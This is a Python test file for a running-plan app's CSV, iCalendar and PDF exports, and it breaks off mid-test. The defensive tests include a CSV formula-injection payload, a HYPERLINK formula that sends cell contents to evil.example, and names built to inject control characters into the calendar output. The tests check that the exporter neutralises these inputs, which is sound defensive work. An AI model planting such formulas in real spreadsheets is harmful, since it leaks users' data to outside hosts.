"""Plan exports: the CSV, iCalendar and PDF files must read back and be reproducible."""

from __future__ import annotations

import csv
import datetime as dt
import io
import logging
import math
from typing import get_args

import pandas as pd
import pytest
from icalendar import Calendar
from pypdf import PdfReader

from runform.exercises import by_id, load_library
from runform.export import (
    COLUMNS,
    FONT_DIR,
    FORMULA_STARTS,
    PRODID,
    csv_bytes,
    ics_text,
    pdf_line,
    pdf_text,
    sessions_frame,
    to_csv,
    to_ics,
    to_pdf,
)
from runform.models import Plan, PlanExercise, PlanSession, PlanWeek, Step, StepTarget
from runform.plantext import (
    distance_text,
    dose_text,
    duration_text,
    kind_label,
    session_title,
    step_text,
    steps_text,
)
from runform.steptimer import advance, flat_steps, remaining_s
from runform.vocab import KIND_LABELS, SessionKind
from runform.workouts import structured_run

START = dt.date(2025, 3, 3)  # a Monday
ATHLETE = "Zoé Müller"
PLAN_CUE = "Knee over the second toe – slow and controlled"


def day(n: int) -> dt.date:
    return START + dt.timedelta(days=n)


def knee_rocks(sets: int = 2) -> PlanExercise:
    return PlanExercise(
        id="knee_to_wall_rock",
        name="Knee-to-wall ankle rocks",
        targets=["limited_ankle_dorsiflexion", "ankle_dorsiflexion_asymmetry"],
        sets=sets,
        reps=10,
        per_side=True,
        rest_s=20,
        role="warmup",
        cues=[PLAN_CUE, "Heel stays down", "Do ≥ 2 extra reps on the stiffer side"],
        reason="Ankle dorsiflexion 8 cm – below the ≥ 10 cm target (café test)",
    )


def calf_stretch() -> PlanExercise:
    return PlanExercise(
        id="calf_stretch_wall",
        name="Wall calf stretch (straight and bent knee)",
        sets=2,
        seconds=30,
        per_side=True,
        rest_s=10,
        role="cooldown",
    )


@pytest.fixture
def plan() -> Plan:
    """Two weeks, the second a deload, with runs, strength, drills and mobility."""
    glute_bridge = PlanExercise(
        id="glute_bridge",
        name="Glute bridge",
        targets=["posterior_chain_weakness"],
        sets=3,
        reps=12,
        tempo="2-1-1-0",
        rest_s=45,
        reason="Weak hip extension – build the posterior chain",
    )
    calf_raise = PlanExercise(
        id="single_leg_calf_raise",
        name="Single-leg calf raise",
        targets=["calf_endurance_deficit"],
        sets=3,
        reps=15,
        per_side=True,
    )
    a_skip = PlanExercise(
        id="a_skip", name="A-skip", sets=3, seconds=20, rest_s=45, role="drill", cues=[]
    )
    week1 = PlanWeek(
        index=1,
        run_km=20.5,
        notes=["Keep easy runs conversational – nose breathing"],
        sessions=[
            PlanSession(date=day(0), kind="mobility", minutes=20, exercises=[knee_rocks()]),
            PlanSession(date=day(1), kind="easy_run", minutes=45, run_km=8, reason="Aerobic base"),
            PlanSession(
                date=day(2),
                kind="strength",
                minutes=35,
                exercises=[knee_rocks(), glute_bridge, calf_raise],
                reason="Posterior chain and calf capacity",
            ),
            PlanSession(date=day(3), kind="drills", minutes=15, exercises=[a_skip]),
            PlanSession(date=day(5), kind="long_run", minutes=75, run_km=12.5),
        ],
    )
    week2 = PlanWeek(
        index=2,
        deload=True,
        run_km=14,
        sessions=[
            PlanSession(
                date=day(7), kind="strength", minutes=25, exercises=[knee_rocks(), glute_bridge]
            ),
            PlanSession(date=day(8), kind="easy_run", minutes=35, run_km=6),
            # A second session on the same day: its UID must still be unique.
            PlanSession(
                date=day(8), kind="mobility", minutes=10, exercises=[calf_stretch(), knee_rocks(1)]
            ),
            PlanSession(date=day(10), kind="tempo", minutes=40, run_km=8),
            PlanSession(date=day(12), kind="reassessment", minutes=30),
        ],
    )
    return Plan(
        start=START, weeks=[week1, week2], notes=["Stop and refer if pain ≥ 3/10 → see a clinician"]
    )


def expected_rows(plan: Plan) -> int:
    return sum(max(1, len(s.exercises)) for _, s in plan.sessions())


def pdf_words(data: bytes) -> str:
    """All page text with whitespace collapsed, so wrapped lines still match."""
    reader = PdfReader(io.BytesIO(data))
    return " ".join(" ".join(page.extract_text() for page in reader.pages).split())


# --- labels and doses -----------------------------------------------------------------------


def test_every_session_kind_has_a_label() -> None:
    assert set(KIND_LABELS) == set(get_args(SessionKind))
    assert KIND_LABELS["easy_run"] == "Easy run"


def test_dose_text_per_side_reps_with_tempo_and_rest() -> None:
    ex = PlanExercise(id="x", name="X", sets=3, reps=10, per_side=True, tempo="3-1-1-0")
    assert dose_text(ex) == "3 × 10 per side, tempo 3-1-1-0, rest 60 s"


def test_dose_text_timed() -> None:
    ex = PlanExercise(id="x", name="X", sets=2, seconds=30, rest_s=0)
    assert dose_text(ex) == "2 × 30 s"
    assert dose_text(calf_stretch()) == "2 × 30 s per side, rest 10 s"


def test_pdf_text_keeps_unicode_the_fonts_can_print() -> None:
    # No more ASCII look-alikes: the embedded fonts have these glyphs.
    text = "Zoé → “fast” … ≤ 5 — Dvořák 中文 日本語 한국어 Ελένη Дарья ’‘·÷≈"
    assert pdf_text(text) == text
    assert pdf_text("e\u0301") == "é"  # composed, so the font's "é" is used


def test_pdf_text_drops_controls_and_emoji_and_marks_unknown_scripts() -> None:
    assert pdf_text("a\r\nb\rc\u2028d\te") == "a\nb\nc\nd e"
    assert pdf_text("A\x00B\x1bC\x7fD\ud800E") == "ABCDE"
    # An emoji sequence goes whole: no stray "♀" from the runner emoji, no skin tone, no flag.
    assert pdf_text("Go 🏃\u200d♀\ufe0f! 👍🏽 🇫🇷.") == "Go !  ."
    assert pdf_text("♀ stays") == "♀ stays"  # a symbol the font has is kept
    assert pdf_text("สมชาย") == "?????"  # Thai letters: no bundled font has them
    assert pdf_line("  李娜\nZoë 🏃 ") == "李娜 Zoë"


# --- CSV ------------------------------------------------------------------------------------


def test_csv_parses_back_with_one_row_per_exercise(plan: Plan) -> None:
    text = to_csv(plan)
    frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert list(frame.columns) == list(COLUMNS)
    assert len(frame) == expected_rows(plan) == 14
    assert len(sessions_frame(plan)) == len(frame)

    first = frame.iloc[0]
    assert first["week"] == "1"
    assert first["date"] == "2025-03-03"
    assert first["weekday"] == "Monday"
    assert first["exercise_id"] == "knee_to_wall_rock"
    assert first["reps"] == "10"  # not "10.0"
    assert first["seconds"] == ""
    assert first["targets"] == "limited_ankle_dorsiflexion;ankle_dorsiflexion_asymmetry"
    assert first["reason"] == "Ankle dorsiflexion 8 cm – below the ≥ 10 cm target (café test)"

    run = frame[frame["kind"] == "long_run"].iloc[0]
    assert run["exercise"] == "" and run["run_km"] == "12.5" and run["session_minutes"] == "75"

    week2 = frame[frame["week"] == "2"]
    assert set(week2["deload"]) == {"True"}
    assert set(frame[frame["week"] == "1"]["deload"]) == {"False"}


def test_csv_of_empty_plan_keeps_the_header() -> None:
    empty = Plan(start=START, weeks=[PlanWeek(index=1)])
    assert to_csv(empty).strip() == ",".join(COLUMNS)


HOSTILE = '=HYPERLINK("http://evil.example/?"&C2&D2,"Ana")'


def hostile_frame() -> pd.DataFrame:
    """Every formula start OWASP lists, beside cells that must come back unchanged."""
    return pd.DataFrame(
        {
            "name": [HOSTILE, "+41 79 123", "-3 km", "@SUM(A1:A9)", "\tTab", "\rCR", "Zoé", None],
            "note": ["Ana;=1+1", "it's fine", "", "a=b", "李娜 🏃", "x\ny", "'quoted", "e"],
            "km": [-3.5, 0.0, math.nan, 12.0, -0.1, 1e3, 2.5, -7.0],
            "count": pd.array([-2, None, 3, 0, -1, 5, 6, 7], dtype="Int64"),
            "done": pd.array([True, False, None, True, True, False, True, False], dtype="boolean"),
            "mixed": [-5, "-5", math.nan, "=1", 4.5, "ok", None, "+"],
            "day": pd.to_datetime(["2025-03-03"] * 7 + [None]),
        }
    )


def test_csv_bytes_defuses_every_formula_start() -> None:
    frame = hostile_frame()
    data = csv_bytes(frame)
    assert isinstance(data, bytes)
    back = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    assert list(back.columns) == list(frame.columns)
    assert list(back["name"]) == [
        "'" + HOSTILE,
        "'+41 79 123",
        "'-3 km",
        "'@SUM(A1:A9)",
        "'\tTab",
        "'\rCR",
        "Zoé",
        "",
    ]
    assert list(back["note"]) == [
        "Ana;'=1+1",  # a ";" would start a new cell in a ";" spreadsheet
        "it's fine",
        "",
        "a=b",
        "李娜 🏃",
        "x\ny",
        "'quoted",
        "e",
    ]
    # Numbers stay numbers, negative ones included; NaN and NA stay blank.
    assert list(back["km"]) == ["-3.5", "0.0", "", "12.0", "-0.1", "1000.0", "2.5", "-7.0"]
    assert list(back["count"]) == ["-2", "", "3", "0", "-1", "5", "6", "7"]
    assert list(back["done"])[:3] == ["True", "False", ""]
    # In an object column only text is quoted: the int -5 stays a number, the text "-5" does not.
    assert list(back["mixed"]) == ["-5", "'-5", "", "'=1", "4.5", "ok", "", "'+"]
    assert back["day"].iloc[0] == "2025-03-03"
    assert pd.read_csv(io.BytesIO(data))["km"].dtype == "float64"  # still numeric when parsed
    assert frame["name"].iloc[0] == HOSTILE  # the caller's frame is not modified


def test_csv_bytes_no_cell_starts_a_formula_under_any_separator() -> None:
    """Whatever a spreadsheet splits on (, ; or tab), no text cell it sees starts a formula."""
    frame = hostile_frame()
    frame["split"] = ["a;=1", 'b; "+1', "c\t@x", "d;\t=y", "e;ok", "f; -", "g", "h"]
    text = csv_bytes(frame).decode("utf-8")
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                try:
                    float(cell)  # a number, negative ones included, is not a formula
                except ValueError:
                    assert not cell.startswith(FORMULA_STARTS), (delimiter, cell)
    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert list(back["split"]) == [
        "a;'=1",
        "b; \"'+1",
        "c\t'@x",
        "d;'\t'=y",
        "e;ok",
        "f; '-",
        "g",
        "h",
    ]
    assert list(back["note"])[:4] == ["Ana;'=1+1", "it's fine", "", "a=b"]


def test_csv_bytes_defuses_column_names_and_odd_frames() -> None:
    frame = pd.DataFrame([["=x", 1], ["y", -2]], columns=["=Ana", "=Ana"])  # duplicate names
    frame["cat"] = pd.Categorical(["@a", "b"])
    frame["s"] = pd.array(["-x", None], dtype="string")
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"))))
    assert rows == [
        ["'=Ana", "'=Ana", "cat", "s"],
        ["'=x", "1", "'@a", "'-x"],
        ["y", "-2", "b", ""],
    ]
    assert csv_bytes(pd.DataFrame(columns=["a", "-b"])) == b"a,'-b\r\n"
    # A lone surrogate (a broken emoji from a form) must not make the export fail.
    broken = pd.DataFrame({"n": pd.Series(["A\ud800B"], dtype=object)})
    assert csv_bytes(broken) == b"n\r\nA?B\r\n"


def test_plan_csv_defuses_hostile_plan_text(plan: Plan) -> None:
    plan.weeks[0].sessions[0].exercises[0].name = HOSTILE
    plan.weeks[0].sessions[0].exercises[0].reason = "-1+1"
    frame = pd.read_csv(io.StringIO(to_csv(plan)), dtype=str, keep_default_na=False)
    assert frame.iloc[0]["exercise"] == "'" + HOSTILE
    assert frame.iloc[0]["reason"] == "'-1+1"
    assert frame.iloc[0]["week"] == "1"


# --- iCalendar ------------------------------------------------------------------------------


def test_ics_has_one_all_day_event_per_session(plan: Plan) -> None:
    cal = Calendar.from_ical(to_ics(plan, ATHLETE))
    assert str(cal["PRODID"]) == PRODID
    assert str(cal["VERSION"]) == "2.0"
    assert str(cal["CALSCALE"]) == "GREGORIAN"
    assert str(cal["X-WR-CALNAME"]) == f"RunForm: {ATHLETE}"

    events = cal.walk("VEVENT")
    sessions = [s for _, s in plan.sessions()]
    assert len(events) == len(sessions) == 10
    for event, session in zip(events, sessions, strict=True):
        start = event.decoded("DTSTART")
        assert type(start) is dt.date  # all-day, not a datetime
        assert start == session.date
        assert event.decoded("DTEND") == session.date + dt.timedelta(days=1)
        assert event.decoded("DTSTAMP") == dt.datetime(2025, 3, 3, tzinfo=dt.UTC)

    summaries = [str(e["SUMMARY"]) for e in events]
    assert summaries[1] == "Easy run 8 km (45 min)"
    assert summaries[2] == "Strength (35 min)"
    assert summaries[4] == "Long run 12.5 km (75 min)"

    uids = [str(e["UID"]) for e in events]
    assert len(set(uids)) == len(uids)
    assert all(uid.endswith("@runform") for uid in uids)


def test_ics_description_lists_doses_cues_and_reason(plan: Plan) -> None:
    events = Calendar.from_ical(to_ics(plan, ATHLETE)).walk("VEVENT")
    strength = str(events[2]["DESCRIPTION"])
    assert "Knee-to-wall ankle rocks: 2 × 10 per side, rest 20 s. " + PLAN_CUE in strength
    assert "Glute bridge: 3 × 12, tempo 2-1-1-0, rest 45 s" in strength
    assert strength.endswith("Posterior chain and calf capacity")
    assert "Week 2 (deload)" in str(events[5]["DESCRIPTION"])
    # No cue in the plan: the library's first cue stands in.
    assert "A-skip: 3 × 20 s, rest 45 s. Skip with a knee drive to hip height" in str(
        events[3]["DESCRIPTION"]
    )


def test_ics_is_byte_identical_and_crlf_folded(plan: Plan) -> None:
    data = to_ics(plan, ATHLETE)
    assert data == to_ics(plan, ATHLETE)
    assert data.startswith(b"BEGIN:VCALENDAR\r\n")
    assert data.count(b"\n") == data.count(b"\r\n")
    assert all(len(line) <= 75 for line in data.split(b"\r\n"))
    assert b"DTSTART;VALUE=DATE:20250303\r\n" in data


def test_ics_uids_are_stable_per_session_and_differ_per_athlete(plan: Plan) -> None:
    def uids(p: Plan, athlete: str) -> list[str]:
        return [str(e["UID"]) for e in Calendar.from_ical(to_ics(p, athlete)).walk("VEVENT")]

    before = uids(plan, ATHLETE)
    # Adding a session earlier in the plan must not change the UIDs of the others.
    plan.weeks[0].sessions.insert(0, PlanSession(date=day(0), kind="easy_run", minutes=30))
    after = uids(plan, ATHLETE)
    assert after[1:] == before
    assert set(uids(plan, "Someone else")).isdisjoint(after)
    # A double day of the same kind still gets two distinct UIDs.
    plan.weeks[0].sessions.append(PlanSession(date=day(0), kind="mobility", minutes=10))
    doubled = uids(plan, ATHLETE)
    assert len(set(doubled)) == len(doubled) == len(after) + 1
    assert set(after) < set(doubled)


HOSTILE_NAMES = ["Ana\nEvil", "Ana\r\nEvil", "Ana\x00Evil", "Zoë 🏃‍♀️", "李娜", "Ana\u2028\tEvil"]


def test_ics_text_keeps_one_line() -> None:
    assert ics_text("Ana\nB\r\nC\x00D\tE\u2028F\x1b") == "Ana B CD E F"
    assert ics_text("  李娜   Zoë 🏃 ") == "李娜 Zoë 🏃"
    assert ics_text("a,b;c\\d") == "a,b;c\\d"  # icalendar escapes these itself


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_ics_with_hostile_names_parses_and_keeps_clean_text(plan: Plan, name: str) -> None:
    ex = plan.weeks[0].sessions[0].exercises[0]
    ex.name = f"Rocks {name}"
    ex.cues = [f"Cue {name}"]
    plan.weeks[0].sessions[0].reason = f"Why {name}"
    data = to_ics(plan, name)
    # Only CRLF line endings and no other control characters anywhere in the file.
    assert data.count(b"\n") == data.count(b"\r\n")
    assert not any(b < 0x20 and b not in (0x0D, 0x0A) for b in data)
    assert all(len(line) <= 75 for line in data.split(b"\r\n"))

    cal = Calendar.from_ical(data)
    clean = ics_text(name)
    assert "\n" not in clean and "\x00" not in clean and clean
    assert str(cal["X-WR-CALNAME"]) == f"RunForm: {clean}"
    description = str(cal.walk("VEVENT")[0]["DESCRIPTION"])
    assert f"- Rocks {clean}: 2 × 10 per side, rest 20 s. Cue {clean}" in description
    assert description.endswith(f"Why {clean}")
    # Deliberate line breaks between the lines of the notes survive (escaped as \n).
    assert description.startswith("Week 1\n\n- ")


def test_ics_keeps_emoji_and_cjk_and_uids_of_the_name_as_given(plan: Plan) -> None:
    data = to_ics(plan, "李娜 Zoë 🏃")
    cal = Calendar.from_ical(data)
    assert str(cal["X-WR-CALNAME"]) == "RunForm: 李娜 Zoë 🏃"
    # The UID hashes the name as given (cleaning it must not re-key imported calendars).
    plain = Calendar.from_ical(to_ics(plan, "Ana\nEvil")).walk("VEVENT")
    spaced = Calendar.from_ical(to_ics(plan, "Ana Evil")).walk("VEVENT")
    assert str(plain[0]["UID"]) != str(spaced[0]["UID"])


# --- PDF ------------------------------------------------------------------------------------


def test_pdf_opens_with_title_page_grid_and_cards(plan: Plan) -> None:
    data = to_pdf(plan, ATHLETE)
    reader = PdfReader(io.BytesIO(data))
    assert len(reader.pages) >= 1 + len(plan.weeks)
    box = reader.pages[0].mediabox
    assert float(box.width) > float(box.height)  # landscape
    assert round(float(box.width) / 72 * 25.4) == 297  # A4

    title = " ".join(reader.pages[0].extract_text().split())
    assert "Zoé Müller" in title and "2025-03-03" in title
    assert "pain ≥ 3/10 → see a clinician" in title  # printed as typed, no ASCII look-alikes

    text = pdf_words(data)
    assert "Week 1" in text
    assert "Week 2 - deload" in text
    assert "Long run 75 min, 12.5 km" in text
    assert "Knee-to-wall ankle rocks" in text
    assert PLAN_CUE in text  # the plan's own cue, with its en dash
    assert "Do ≥ 2 extra reps" in text
    assert "Arching the lower back to get higher" in text  # a library fault
    assert "Skip with a knee drive to hip height" in text  # library cue when the plan has none
    assert "2 × 30 s per side, rest 10 s" in text
    # Week 2 gives the knee rocks two doses: one card lists both.
    assert "Dose: 2 × 10 per side, rest 20 s / 1 × 10 per side, rest 20 s" in text
    assert text.count("Knee-to-wall ankle rocks") == 2  # one card per week


def test_pdf_is_byte_identical_with_a_fixed_creation_date(plan: Plan) -> None:
    data = to_pdf(plan, ATHLETE)
    assert data == to_pdf(plan, ATHLETE)
    created = PdfReader(io.BytesIO(data)).metadata.creation_date
    assert created == dt.datetime(2025, 3, 3, tzinfo=dt.UTC)


def test_pdf_cards_flow_onto_extra_pages_and_tolerate_unknown_ids() -> None:
    lib = load_library()
    names = [ex.name for ex in lib.exercises[:24]]
    exercises = [PlanExercise(id=ex.id, name=ex.name, sets=2, reps=10) for ex in lib.exercises[:24]]
    exercises.append(PlanExercise(id="not_in_library", name="Coach special", sets=1, seconds=60))
    big = Plan(
        start=START,
        weeks=[
            PlanWeek(
                index=1,
                sessions=[
                    PlanSession(date=START, kind="strength", minutes=60, exercises=exercises)
                ],
            )
        ],
    )
    data = to_pdf(big, ATHLETE)
    assert len(PdfReader(io.BytesIO(data)).pages) > 2
    text = pdf_words(data)
    for name in [*names, "Coach special"]:
        assert pdf_text(name) in text
    assert "exercises (continued)" in text
    assert by_id(lib)[lib.exercises[0].id].faults[0] in text


UNICODE_ATHLETE = "李娜 Zoë 🏃"


def test_pdf_prints_cjk_and_accents_and_drops_emoji(plan: Plan, caplog) -> None:
    plan.weeks[0].sessions[2].exercises[1].name = "臀桥 Glute bridge"  # a bold card title
    plan.notes.append("Ελένη, Дарья, 한국어, 日本語 – all welcome")
    with caplog.at_level(logging.WARNING, logger="fpdf"):
        data = to_pdf(plan, UNICODE_ATHLETE)
    assert not [r for r in caplog.records if "missing" in r.getMessage()]  # no blank boxes
    reader = PdfReader(io.BytesIO(data))
    title = " ".join(reader.pages[0].extract_text().split())
    assert "Athlete: 李娜 Zoë Plan start" in title  # the emoji is left out on purpose
    assert "RunForm - 李娜 Zoë - page 1" in title
    assert "Ελένη, Дарья, 한국어, 日本語 – all welcome" in title
    assert "?" not in title and "🏃" not in title
    text = pdf_words(data)
    assert "臀桥 Glute bridge" in text
    assert reader.metadata.title == "RunForm training plan: 李娜 Zoë"
    fonts = {
        str(font["/BaseFont"])
        for page in reader.pages
        for font in page["/Resources"]["/Font"].values()
    }
    assert fonts == {
        "/MPDFAA+DejaVuSansBook",
        "/MPDFAA+DejaVuSansBold",
        "/MPDFAA+DroidSansFallback",
    }
    assert data == to_pdf(plan, UNICODE_ATHLETE)  # still byte-identical


def test_pdf_embeds_the_cjk_font_only_when_needed(plan: Plan) -> None:
    data = to_pdf(plan, ATHLETE)
    assert b"DroidSansFallback" not in data
    assert b"DejaVuSans" in data
    assert b"Helvetica" not in data


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_pdf_with_hostile_names_renders(plan: Plan, name: str) -> None:
    plan.weeks[0].notes.append(f"Note {name}")
    data = to_pdf(plan, name)
    title = " ".join(PdfReader(io.BytesIO(data)).pages[0].extract_text().split())
    assert f"Athlete: {pdf_line(name)} Plan start" in title


def test_bundled_fonts_and_licences_are_there() -> None:
    for filename in ("DejaVuSans.ttf", "DejaVuSans-Bold.ttf", "DroidSansFallback.ttf"):
        assert (FONT_DIR / filename).stat().st_size > 500_000
    assert "Bitstream" in (FONT_DIR / "LICENSE-DejaVu.txt").read_text()
    assert "Apache License" in (FONT_DIR / "LICENSE-Apache-2.0.txt").read_text()


# --- structured runs ------------------------------------------------------------------------


def rpe(lo: float, hi: float, pace=None, hr=None) -> StepTarget:
    return StepTarget(rpe=(lo, hi), pace_s_per_km=pace, hr_bpm=hr)


def warmup(seconds: int = 900) -> Step:
    return Step(kind="warmup", duration_s=seconds, target=rpe(2, 3))


def reps_800() -> Step:
    return Step(
        kind="repeat",
        repeat=6,
        steps=[
            Step(kind="work", distance_m=800, target=rpe(7, 8, (288, 300))),
            Step(kind="recover", distance_m=400, target=rpe(1, 2)),
        ],
    )


def tempo_blocks() -> Step:
    return Step(
        kind="repeat",
        repeat=3,
        steps=[
            Step(kind="work", duration_s=480, target=rpe(5, 6, (305, 315))),
            Step(kind="recover", duration_s=120),
        ],
    )


def easy_40() -> Step:
    return Step(
        kind="work",
        duration_s=2400,
        target=rpe(2, 3, (370, 438), (117, 146)),
        note="metronome at 172 spm",
    )


def test_step_text_reads_as_a_runner_says_it() -> None:
    assert step_text(warmup()) == "Warm-up 15 min easy, RPE 2–3"
    assert step_text(reps_800()) == "6 × 800 m at 4:48–5:00 /km, RPE 7–8, 400 m jog"
    assert step_text(tempo_blocks()) == "3 × 8 min at 5:05–5:15 /km, RPE 5–6, 2 min jog"
    assert step_text(easy_40()) == (
        "Easy 40 min at 6:10–7:18 /km or 117–146 bpm, RPE 2–3 — metronome at 172 spm"
    )
    cooldown = Step(kind="cooldown", duration_s=600, target=rpe(2, 3))
    assert step_text(cooldown) == "Cool-down 10 min easy, RPE 2–3"


def test_step_text_lap_button_and_edge_shapes() -> None:
    assert step_text(Step(kind="work", target=rpe(5, 6))) == "Until lap button, RPE 5–6"
    assert step_text(Step(kind="cooldown")) == "Cool-down easy until lap button"
    assert step_text(Step(kind="recover", duration_s=90)) == "Recover 1 min 30 s"
    # one pace, one RPE: no band
    assert step_text(Step(kind="work", distance_m=5000, target=rpe(6, 6, (300, 300)))) == (
        "5 km at 5:00 /km, RPE 6"
    )
    # heart rate only, a warm-up with a pace is not called easy
    hr_only = Step(kind="work", duration_s=1800, target=rpe(2, 3, hr=(120, 140)))
    assert step_text(hr_only) == "Easy 30 min at 120–140 bpm, RPE 2–3"
    paced = Step(kind="warmup", duration_s=600, target=rpe(2, 3, (400, 430)))
    assert step_text(paced) == "Warm-up 10 min at 6:40–7:10 /km, RPE 2–3"
    drills = Step(kind="warmup", duration_s=600, target=rpe(2, 3), note="A-skips, B-skips")
    assert step_text(drills) == "Warm-up 10 min easy, RPE 2–3 — A-skips, B-skips"


def test_step_text_of_repeats_with_notes_lap_recoveries_and_several_parts() -> None:
    strides = Step(
        kind="repeat",
        repeat=6,
        steps=[
            Step(kind="work", duration_s=20, target=rpe(7, 8), note="fast but relaxed"),
            Step(kind="recover", target=rpe(1, 2), note="walk back"),
        ],
    )
    assert step_text(strides) == (
        "6 × 20 s, RPE 7–8, walk until lap button — fast but relaxed; walk back"
    )
    run_walk = Step(
        kind="repeat",
        repeat=8,
        steps=[
            Step(kind="work", duration_s=240, target=rpe(2, 3)),
            Step(kind="recover", duration_s=60),
        ],
    )
    assert step_text(run_walk) == "8 × 4 min easy, RPE 2–3, 1 min jog"
    walked = Step(kind="recover", duration_s=60, target=rpe(1, 2), note="walk")
    walking = Step(kind="repeat", repeat=8, steps=[run_walk.steps[0], walked])
    assert step_text(walking) == "8 × 4 min easy, RPE 2–3, 1 min walk"  # run–walk says walk
    # a note the line already says is not said twice
    said = Step(kind="repeat", repeat=2, note="hills", steps=[*run_walk.steps])
    said.steps[1] = Step(kind="recover", duration_s=60, note="jog")
    assert step_text(said) == "2 × 4 min easy, RPE 2–3, 1 min jog — hills"
    mixed = Step(
        kind="repeat",
        repeat=2,
        steps=[
            Step(kind="work", distance_m=1000, target=rpe(5, 6, (305, 315))),
            Step(kind="recover", distance_m=200),
            Step(kind="work", distance_m=400, target=rpe(7, 8, (280, 290))),
        ],
    )
    assert step_text(mixed) == (
        "2 × (1 km at 5:05–5:15 /km, RPE 5–6, 200 m jog, 400 m at 4:40–4:50 /km, RPE 7–8)"
    )


def test_steps_text_is_one_line_per_step() -> None:
    assert steps_text([warmup(), reps_800(), Step(kind="cooldown")]) == [
        "Warm-up 15 min easy, RPE 2–3",
        "6 × 800 m at 4:48–5:00 /km, RPE 7–8, 400 m jog",
        "Cool-down easy until lap button",
    ]
    assert steps_text([]) == []


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(45, "45 s"), (60, "1 min"), (90, "1 min 30 s"), (900, "15 min"), (3600, "1 h"),
     (4500, "1 h 15 min"), (3630, "60 min 30 s")],
)  # fmt: skip
def test_duration_text(seconds: int, text: str) -> None:
    assert duration_text(seconds) == text


@pytest.mark.parametrize(
    ("metres", "text"),
    [(200, "200 m"), (800, "800 m"), (1000, "1 km"), (1200, "1200 m"), (1600, "1600 m"),
     (2000, "2 km"), (2500, "2.5 km"), (21097, "21.1 km"), (42195, "42.2 km")],
)  # fmt: skip
def test_distance_text(metres: int, text: str) -> None:
    assert distance_text(metres) == text


def test_flat_steps_write_repeats_out_with_labels() -> None:
    flat = flat_steps([warmup(), reps_800(), easy_40(), Step(kind="cooldown")])
    assert len(flat) == 1 + 12 + 1 + 1
    assert [f.label for f in flat[:5]] == [
        "Warm-up",
        "Rep 1 of 6",
        "Recovery 1 of 6",
        "Rep 2 of 6",
        "Recovery 2 of 6",
    ]
    assert flat[0].text() == "Warm-up · 15 min easy · RPE 2–3"
    assert flat[5].text() == "Rep 3 of 6 · 800 m at 4:48–5:00 /km · RPE 7–8"
    assert flat[6].text() == "Recovery 3 of 6 · 400 m jog · RPE 1–2"
    assert flat[13].text() == (
        "Easy · 40 min at 6:10–7:18 /km or 117–146 bpm · RPE 2–3 · metronome at 172 spm"
    )
    assert flat[14].text() == "Cool-down · Easy until lap button"
    assert [f.timed for f in (flat[0], flat[5], flat[13], flat[14])] == [True, False, True, False]
    assert flat[5].distance_m == 800 and flat[0].duration_s == 900
    assert flat_steps([]) == []


def test_flat_steps_number_the_parts_of_a_rep_and_carry_the_repeat_note() -> None:
    mixed = Step(
        kind="repeat",
        repeat=2,
        note="hills",
        steps=[
            Step(kind="work", duration_s=60, target=rpe(7, 8)),
            Step(kind="work", duration_s=30, target=rpe(8, 9), note="sprint"),
            Step(kind="recover", duration_s=90),
        ],
    )
    flat = flat_steps([mixed])
    assert [f.label for f in flat] == [
        "Rep 1 of 2 (1/2)",
        "Rep 1 of 2 (2/2)",
        "Recovery 1 of 2",
        "Rep 2 of 2 (1/2)",
        "Rep 2 of 2 (2/2)",
        "Recovery 2 of 2",
    ]
    assert [f.note for f in flat[:3]] == ["hills", "hills; sprint", ""]
    assert flat[0].what == "1 min" and flat[2].what == "1 min 30 s jog"
    assert flat_steps([Step(kind="work", duration_s=1200, target=rpe(5, 6))])[0].label == "Run"


def test_advance_rolls_timed_steps_over_and_waits_at_the_others() -> None:
    flat = flat_steps([warmup(600), tempo_blocks(), reps_800()])
    # 0 warm-up 600 s, 1 rep 480 s, 2 recovery 120 s, 3 rep, ..., 6 recovery, 7 first 800 m
    assert advance(flat, 0, None, 10_000) == (0, None)  # no timer: nothing moves
    assert advance(flat, 0, 1000.0, 1599.0) == (0, 1000.0)
    assert advance(flat, 0, 1000.0, 1600.0) == (1, 1600.0)  # the next starts when it ended
    assert advance(flat, 0, 1000.0, 1000 + 600 + 480 + 5) == (2, 2080.0)
    # far past the timed steps: waits on the first distance step, from when it began
    assert advance(flat, 0, 0.0, 99_999) == (7, 600 + 3 * 600)
    assert advance(flat, 7, 50.0, 99_999) == (7, 50.0)
    last = len(flat) - 1
    timed = flat_steps([warmup(60)])
    assert advance(timed, 0, 0.0, 500) == (0, 0.0)  # the last step stays the last
    assert advance(flat, last + 5, 0.0, 1.0) == (last, 0.0)  # an index past the end is clamped


def test_remaining_s() -> None:
    flat = flat_steps([warmup(600), reps_800()])
    assert remaining_s(flat[0], None, 5.0) == 600
    assert remaining_s(flat[0], 100.0, 160.5) == 539.5
    assert remaining_s(flat[0], 100.0, 900.0) == 0
    assert remaining_s(flat[1], 100.0, 160.0) is None


def test_race_and_cross_training_have_labels_and_titles() -> None:
    assert kind_label("race") == "Race"
    assert kind_label("cross_training") == "Cross-training"
    race = PlanSession(date=START, kind="race", minutes=110, run_km=21.1)
    assert session_title(race) == "Race 21.1 km (110 min)"
    bike = PlanSession(date=START, kind="cross_training", minutes=45)
    assert session_title(bike) == "Cross-training (45 min)"
    assert structured_run(PlanSession(date=START, kind="easy_run", minutes=40, steps=[easy_40()]))
    assert not structured_run(race)  # no steps
    assert not structured_run(
        PlanSession(date=START, kind="cross_training", minutes=40, steps=[easy_40()])
    )


@pytest.fixture
def structured(plan: Plan) -> Plan:
    """The plan with steps on its runs: intervals on Tuesday of week 1, steps on the long run."""
    week1 = plan.weeks[0]
    week1.phase = "build"
    week1.sessions[1] = PlanSession(
        date=day(1),
        kind="intervals",
        minutes=55,
        run_km=9,
        steps=[warmup(), reps_800(), Step(kind="cooldown", duration_s=600, target=rpe(2, 3))],
        reason="VO2max",
    )
    week1.sessions[4].steps = [easy_40()]
    plan.weeks[1].phase = "taper"
    return plan


def test_csv_carries_the_steps_of_each_run(structured: Plan) -> None:
    frame = pd.read_csv(io.StringIO(to_csv(structured)), dtype=str, keep_default_na=False)
    assert list(frame.columns)[-1] == "steps"
    intervals = frame[frame["kind"] == "intervals"].iloc[0]
